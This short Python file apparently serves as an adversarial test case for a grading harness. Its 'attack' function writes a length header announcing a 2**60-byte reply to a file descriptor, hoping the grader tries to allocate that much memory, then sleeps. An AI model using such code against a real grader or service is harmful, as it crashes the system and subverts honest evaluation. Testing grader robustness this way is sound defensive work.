"""Announce a reply of 2**60 bytes, hoping the grader allocates it."""


def attack(*args):
    import os
    import struct
    import sys
    import time
    os.write(int(sys.argv[2]), struct.pack(">Q", 1 << 60))
    time.sleep(60)
